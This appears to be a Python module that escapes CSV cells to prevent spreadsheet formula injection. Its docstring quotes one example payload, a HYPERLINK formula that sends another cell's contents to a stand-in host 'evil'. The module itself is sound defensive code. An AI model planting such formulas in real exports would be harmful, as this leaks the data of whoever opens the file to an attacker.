"""CSV cells that are safe to open in a spreadsheet (the OWASP rule against formula injection).

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula: a customer's survey reason `=HYPERLINK("http://evil/?"&A2, "...")`
would run on the manager's machine. Such a cell gets a leading single quote, which spreadsheets
show as text and a reader still understands. Plain numbers (`-0.5`, `+3`, `-1e-3`) stay numbers.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet must read it: text that could start a formula is quoted."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row) -> list[object]:
    return [safe_cell(value) for value in row]
